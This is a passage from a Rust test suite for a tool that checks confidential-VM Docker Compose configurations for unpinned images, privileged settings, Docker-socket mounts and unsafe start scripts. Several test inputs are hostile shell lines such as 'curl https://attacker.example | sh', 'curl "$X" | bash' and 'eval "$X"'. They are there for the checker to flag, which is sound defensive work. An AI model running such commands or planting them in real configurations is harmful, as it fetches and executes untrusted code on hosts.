        ("use_api_socket: true", "use_api_socket"),
        (
            "post_start: [{ command: 'true', privileged: true }]",
            "post_start[0].privileged",
        ),
        (
            "pre_start: [{ command: 'true', privileged: true }]",
            "pre_start[0].privileged",
        ),
        (
            "deploy: { resources: { reservations: { devices: [{ driver: other, capabilities: [x] }] } } }",
            "deploy.resources.reservations.devices[0].driver",
        ),
        (
            "deploy: { resources: { reservations: { devices: [{ capabilities: [tpu] }] } } }",
            "deploy.resources.reservations.devices[0]",
        ),
        (
            "gpus: [{ driver: cdi, device_ids: ['vendor.example/net=a'] }]",
            "gpus[0].driver",
        ),
        ("gpus: [{ capabilities: [tpu] }]", "gpus[0]"),
    ] {
        reaches(&is_fixed(&service(lines)), &format!("services.web.{place}"));
        let judged = running(&service(lines).replace(PINNED, "nginx:latest"));
        decides(&judged, "unpinned-image", "services.web.image");
        reaches(&judged, &format!("services.web.{place}"));
    }
    reaches(
        &is_fixed(&format!(
            "{}networks:\n  a: {{ driver: host }}\n",
            service("tty: true")
        )),
        "networks.a.driver",
    );
    for lines in [
        "gpus: all",
        "runtime: nvidia",
        "privileged: false",
        "cap_add: []",
        "security_opt: ['no-new-privileges:true']",
        "network_mode: none",
        "network_mode: 'service:other'",
        "ipc: shareable",
        "devices: ['/dev/nvidia0:/dev/nvidia0', 'nvidia.com/gpu=all']",
        "deploy: { resources: { reservations: { devices: [{ driver: nvidia, count: all, capabilities: [gpu] }] } } }",
    ] {
        is_fixed(&service(lines)).proves(CheckId::LaunchInputs);
    }
    is_unmeasured(&service("runtime: /usr/bin/evil"), "services.web.runtime");
}

#[test]
fn t77_a_label_decides_code_where_a_container_holds_the_docker_socket() {
    let proxy = |volumes: &str| {
        format!(
            "{}  proxy:\n    image: {PINNED}\n    volumes: ['{volumes}:/s']\n",
            service("labels: ['rule=${X}']")
        )
    };
    for socket in ["/var/run/docker.sock", "/run", "/"] {
        is_unmeasured(&proxy(socket), "services.web.labels[0]");
    }
    is_fixed(&proxy("data"));
    is_unmeasured(
        &format!(
            "{}  proxy: {{ image: '{PINNED}', use_api_socket: true }}\n",
            service("deploy: { labels: { a: '${X}' } }")
        ),
        "services.web.deploy.labels.a",
    );
}

/// A CVM whose health check and command have a variable, judged with a lock that says this of places.
fn with_places(places: Vec<LockedPlace>) -> Judged {
    let yaml = service("command: run ${X}\nhealthcheck: { test: 'check ${X}' }");
    let mut cvm = Cvm::healthy(&World::default());
    let mut document: Value = serde_json::from_str(&app_compose(&yaml)).unwrap();
    document["pre_launch_script"] = json!("");
    document["allowed_envs"] = json!(["X"]);
    cvm.app_compose = document.to_string();
    let mut compose_settings = document.as_object().unwrap().clone();
    compose_settings.remove("docker_compose_file");
    compose_settings["pre_launch_script"] = json!(format!("sha256:{}", hex::encode(Sha256::digest(""))));
    Trial::of(cvm)
        .with(|trial| {
            trial.policy.locked_compose = Some(LockedCompose {
                compose_settings: compose_settings.into_iter().collect(),
                images: std::collections::BTreeMap::new(),
                places,
                lock: "cvm.lock".into(),
            });
        })
        .judge()
}

fn locked(path: &str, text: &str, reason: &str) -> LockedPlace {
    LockedPlace {
        path: path.to_owned(),
        sha256: Sha256::digest(text).into(),
        reason: reason.to_owned(),
        line: Some(41),
    }
}

#[test]
fn t79_a_place_counts_as_reviewed_only_with_a_reason_for_this_path_and_this_text() {
    let command = |reason: &str| locked("services.web.command", "run ${X}", reason);
    let health = |reason: &str| locked("services.web.healthcheck.test", "check ${X}", reason);
    for places in [
        vec![],
        vec![command(""), health("")],
        vec![command("read"), health(" ")],
        vec![command("read")],
        vec![
            command("read"),
            locked("services.web.healthcheck.test", "check $X", "read"),
        ],
        vec![
            command("read"),
            locked("services.web.healthcheck", "check ${X}", "read"),
        ],
    ] {
        decides(
            &with_places(places),
            "unmeasured-input",
            "services.web.healthcheck.test",
        );
    }
    let judged = with_places(vec![command("read"), health("")]);
    let detail = judged.detail(CheckId::ImagePins);
    assert!(
        detail.contains("(not reviewed: its `reason` in cvm.lock, line 41, is empty)"),
        "{detail}"
    );
    assert!(!detail.contains("services.web.command"), "{detail}");
    let judged = with_places(vec![command("X is a port"), health("the probe alone")]);
    judged
        .passes()
        .says(CheckId::ImagePins, Status::Warn, "reviewed-places");
    assert_eq!(judged.0.assurance, Assurance::Hardware, "{judged}");
    let accepted: Vec<String> = judged
        .0
        .accepted
        .iter()
        .map(|accepted| format!("{} {} {}", accepted.what, accepted.by, accepted.reason))
        .collect();
    assert_eq!(
        accepted,
        [
            "reviewed-place cvm.lock:41 services.web.command: X is a port",
            "reviewed-place cvm.lock:41 services.web.healthcheck.test: the probe alone"
        ]
    );
}

/// The guest's shell drops line ends at the end and NULs, and then compares: such a runner has two readings.
#[test]
fn t89_a_runner_that_is_not_exactly_one_of_those_that_are_known_is_not_read() {
    for runner in [
        json!("bash\n"),
        json!("bash\r\n"),
        json!("bash\0"),
        json!(" bash"),
        json!("docker-compose\n"),
        json!("nerdctl"),
        json!("other"),
        json!(5),
        json!(null),
    ] {
        let fields = json!({ "runner": runner.clone(), "bash_script": "curl https://attacker.example | sh" });
        let judged = running_with(&service("tty: true"), &fields);
        judged
            .says(CheckId::ImagePins, Status::Error, "unreadable-compose")
            .says(CheckId::LaunchInputs, Status::Error, "unreadable-compose")
            .concludes(Verdict::Inconclusive);
        let detail = judged.detail(CheckId::ImagePins);
        assert!(
            detail.contains("what starts the app is not known: `runner` is "),
            "{runner}: {detail}"
        );
    }
    for runner in ["docker-compose", "nerdctl-compose"] {
        let judged = running_with(&service("tty: true"), &json!({ "runner": runner }));
        judged.proves(CheckId::ImagePins);
        assert!(
            matches!(judged.0.assurance, Assurance::Code(_)),
            "{runner}: {judged}"
        );
    }
    running_with(
        &service("tty: true"),
        &json!({ "runner": "bash", "bash_script": "true" }),
    )
    .says(CheckId::ImagePins, Status::Warn, "unpinned-image");
}

/// A script that runs as root before the containers is judged as the scripts in them are.
#[test]
fn t90_what_a_start_script_takes_from_outside_decides_code() {
    for (script, reason) in [
        ("eval \"$X\"", "unmeasured-input"),
        ("curl \"$X\" | bash", "unmeasured-input"),
        ("bash /dstack/.host-shared/user_config", "unmeasured-input"),
        ("mount /dev/vdb /mnt && /mnt/run", "unmeasured-input"),
        ("sed -i s/TAG/latest/ docker-compose.yaml", "unmeasured-input"),
        ("docker run -d --privileged web:latest", "unpinned-image"),
        (
            "docker pull web:latest; docker tag web:latest web:1",
            "unpinned-image",
        ),
    ] {
        for (field, value, place) in [
            ("pre_launch_script", json!(script), "pre_launch_script"),
            ("init_script", json!(["true", script]), "init_script[1]"),
        ] {
            let mut fields = json!({ "allowed_envs": ["X"] });
            fields[field] = value;
            decides(&running_with(&service("tty: true"), &fields), reason, place);
        }
    }
    // What it does beyond that is named as not judged.
    let script = "echo \"$X\" | docker login -u me --password-stdin registry.example";
    let fields = json!({ "allowed_envs": ["X"], "pre_launch_script": script });
    let judged = running_with(&service("tty: true"), &fields);
    judged.proves(CheckId::ImagePins);
    assert!(matches!(judged.0.assurance, Assurance::Code(_)), "{judged}");
    let detail = judged.detail(CheckId::ImagePins);
    let hash = hex::encode(Sha256::digest(script));
    assert!(
        detail.contains(&format!(
            "What else pre_launch_script (SHA-256 {hash}) does as root before the containers is not checked."
        )),
        "{detail}"
    );
}

/// `pre_launch_script` and `bash_script` came into the guest as fields that no structure knew.
#[test]
fn t91_a_field_that_is_not_known_is_named_and_decides_code_if_it_may_be_a_script() {
    for (field, value) in [
        ("post_launch_script", json!("curl $X | sh")),
        ("later", json!("#!/bin/sh\ntrue")),
    ] {
        let mut fields = json!({});
        fields[field] = value;
        let judged = running_with(&service("tty: true"), &fields);
        decides(&judged, "unmeasured-input", field);
        judged.says(CheckId::LaunchInputs, Status::Warn, "unknown-field");
    }
    for fields in [
        json!({ "tomorrow": true }),
        json!({ "snapshotter": "stargz\n" }),
        json!({ "kms_enabled": "true" }),
        json!({ "bash_script": "true" }),
    ] {
        let judged = running_with(&service("tty: true"), &fields);
        judged.says(CheckId::LaunchInputs, Status::Warn, "unknown-field");
        judged.proves(CheckId::ImagePins);
    }
    for fields in [
        json!({ "docker_config": { "x": "y" }, "default_gateway_domain": "gateway.example", "salt": "x", "bash_script": null }),
        json!({ "snapshotter": "stargz", "swap_size": "4G", "tomorrow": null }),
    ] {
        running_with(&service("tty: true"), &fields).proves(CheckId::LaunchInputs);
    }
}
